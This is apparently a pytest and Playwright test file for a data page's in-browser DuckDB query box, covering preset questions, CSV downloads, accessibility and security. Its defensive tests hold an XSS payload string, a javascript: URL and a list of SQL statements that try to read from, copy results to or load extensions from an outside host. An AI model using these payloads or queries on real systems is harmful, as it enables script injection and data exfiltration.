"""The box for queries on the data page, in a real Chromium."""

import shutil
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from types import SimpleNamespace
from typing import NamedTuple

import pytest
from browsers import violations
from case_views import a_short_view, a_view, write_lines
from html_pages import parsed
from playwright.sync_api import Page, expect

from publishing.plan import SiteSettings
from publishing.site.build import STATIC
from publishing.site.pages import environment
from publishing.site.questions import questions
from warehouse.dataset import TABLES, Dataset

HOSTILE = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
OUTSIDE = (
    "FROM 'https://outside.example/cases.csv'",
    "SELECT * FROM read_csv('https://outside.example/cases.csv')",
    "ATTACH 'https://outside.example/cases.duckdb'",
    "COPY results TO 'https://outside.example/results.csv'",
    "LOAD httpfs",
    "LOAD 'https://outside.example/a.duckdb_extension.wasm'",
    "SELECT to_json(tags) FROM published_cases",
    "SET enable_external_access = true",
)
needs_duckdb = pytest.mark.skipif(
    not (STATIC / "duckdb").is_dir(), reason="DuckDB for the data page is missing: make duckdb"
)


class Site(NamedTuple):
    """The address of a served site, and its tables."""

    address: str
    dataset: Dataset


def write_page(folder: Path, dataset: Dataset, *, has_duckdb: bool) -> None:
    """Write the data page and its files as the site has them."""
    (folder / "data").mkdir(exist_ok=True)
    rows = dataset.write(folder / "data")
    tables = [
        SimpleNamespace(
            name=name, table=table, meaning="Rows.", rows=rows[name], parquet_size=9, csv_size=9,
            columns=dataset.columns(name),
        )
        for name, table in TABLES.items()
    ]  # fmt: skip
    page = environment(SiteSettings(title="Models at work")).get_template("data.html")
    text = page.render(
        tables=tables, cases_count=3, questions=questions(), data_version="0123456789ab",
        has_duckdb=has_duckdb, reliability_note="",
    )  # fmt: skip
    (folder / "data.html").write_text(text, "utf-8")


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dataset]:
    """The tables of three cases, one with a hostile title."""
    views = (a_view(), a_short_view("b", company="Initech", year="2025"), a_short_view(HOSTILE))
    lines = write_lines(views, tmp_path_factory.mktemp("lines") / "cases.jsonl")
    with Dataset(lines) as dataset:
        yield dataset


@pytest.fixture(scope="module")
def site(dataset: Dataset, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A plain web server of files."""
    folder = tmp_path_factory.mktemp("site")
    shutil.copytree(STATIC, folder, dirs_exist_ok=True)
    write_page(folder, dataset, has_duckdb=True)
    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
    handler.func.log_message = lambda *_: None
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield Site(f"http://127.0.0.1:{server.server_address[1]}/data.html", dataset)
        server.shutdown()


def run(page: Page, sql: str) -> None:
    """Run a query and wait for the end."""
    page.fill("#sql", sql)
    page.keyboard.press("Control+Enter")
    ended(page)


def ended(page: Page) -> None:
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()


def answer(page: Page) -> list[list[str]]:
    rows = page.locator("#ask-result tbody tr")
    return rows.evaluate_all("all => all.map(one => [...one.cells].map(c => c.textContent))")


def shown(value: object) -> str:
    text = "" if value is None else f"{value:g}" if isinstance(value, float) else str(value)
    return text.removeprefix("https://")


@needs_duckdb
@pytest.mark.browser
def test_ten_questions_are_one_click_away(site, page):
    """The answers equal those of DuckDB elsewhere, under the site's usual policy."""
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(site.address)
    assert not [url for url in requests if "duckdb" in url or ".parquet" in url]
    for place, question in enumerate(questions(), start=1):
        page.get_by_role("link", name=question.title).click()
        ended(page)
        expected = [[shown(v) for v in row.values()] for row in site.dataset.rows(question.sql)]
        assert answer(page) == expected, question.title
        expect(page).to_have_url(f"{site.address}?question={place}")
    assert page.messages == []


@needs_duckdb
@pytest.mark.browser
def test_own_queries(site, page):
    """Lists are shown, results can be downloaded, and errors are explained without harm."""
    page.goto(f"{site.address}?sql=SELEC+1")
    expect(page.locator("#ask-status")).to_have_text("")
    page.get_by_role("button", name="Run").click()
    expect(page.get_by_role("alert")).to_contain_text("DuckDB does not understand this SQL.")
    run(page, "SELECT tags, year, tags[1] AS first, '=1' AS cell FROM published_cases LIMIT 1")
    tags = "[rag, human-review, vllm, pgvector]"
    assert answer(page) == [[tags, "2026", "rag", "=1"]]
    expect(page.locator("#ask-status")).to_contain_text("1 row,")
    expect(page.get_by_role("alert")).to_be_hidden()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download as CSV").click()
    text = download.value.path().read_text("utf-8-sig")
    assert text == f'tags,year,first,cell\n"{tags}",2026,rag,\'=1\n'
    run(page, "FROM range(300)")
    expect(page.locator("#ask-status")).to_contain_text("the first 200 are shown")
    assert len(answer(page)) == 200
    page.fill("#sql", "SELECT count(*) FROM range(1e6::INT) a, range(1e6::INT) b WHERE a <> b")
    page.get_by_role("button", name="Run").click()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("alert")).to_contain_text("Stopped.")


@needs_duckdb
@pytest.mark.browser
def test_a_query_reaches_no_other_site(site, page):
    """Neither remote files, databases and extensions, nor extensions that DuckDB loads automatically."""
    requests = []
    page.context.on("request", lambda request: requests.append(request.url))
    page.goto(site.address)
    for sql in OUTSIDE:
        run(page, sql)
        expect(page.get_by_role("alert")).to_be_visible()
    run(page, "INSTALL httpfs; SELECT 1")
    root = site.address.removesuffix("data.html")
    assert [url for url in requests if not url.startswith(root)] == []
    assert sum(url.endswith("duckdb.wasm") for url in requests) == 1, "no error ended DuckDB"


@needs_duckdb
@pytest.mark.browser
def test_an_answer_is_text(site, defenceless):
    """On a phone and without the policy, values and column names are never markup."""
    page = defenceless
    page.goto(site.address)
    column = HOSTILE.replace('"', "'")
    link = "'https://x.example/' || '<b>\"'"
    sql = f"""SELECT title AS "{column}", 'javascript:alert(3)' AS a, {link} AS b
        FROM published_cases ORDER BY contains(title, 'onerror') DESC LIMIT 1"""  # noqa: S608 - ours
    run(page, sql)
    assert answer(page)[0][:2] == [HOSTILE, "javascript:alert(3)"]
    assert page.locator("#ask-result th").first.text_content() == column
    links = page.locator("#ask-result a").evaluate_all("all => all.map(one => one.href)")
    assert links == ["https://x.example/%3Cb%3E%22"]
    run(page, f"SELECT error('{HOSTILE}')")
    expect(page.get_by_role("alert")).to_contain_text(HOSTILE)
    assert page.evaluate("executed") == []
    assert page.evaluate("document.documentElement.scrollWidth") == 390


@needs_duckdb
@pytest.mark.browser
def test_the_page_is_for_everyone(site, page):
    """Axe finds no problems with a result and the columns shown, in light and dark mode."""
    page.emulate_media(reduced_motion="reduce")
    page.goto(f"{site.address}?question=2")
    expect(page.locator("#ask-result")).to_be_visible()
    page.eval_on_selector_all("details", "all => all.forEach(d => d.open = true)")
    assert violations(page) == []
    page.emulate_media(color_scheme="dark", reduced_motion="reduce")
    assert violations(page, runOnly=["color-contrast"]) == []


def test_without_duckdb_there_is_no_box(dataset, tmp_path):
    """The page still offers the files and describes their columns."""
    write_page(tmp_path, dataset, has_duckdb=False)
    page = parsed(tmp_path / "data.html")
    assert page.get_element_by_id("ask", None) is None
    assert not page.xpath("//script[contains(@src, 'data.js')]")
    for address in page.xpath("//section[@aria-labelledby='files']//tbody//td/a/@href"):
        assert (tmp_path / address).is_file()
    columns = page.xpath("//details[@data-table='evidence']//dt/code/text()")
    assert columns == [column.name for column in dataset.columns("evidence")]
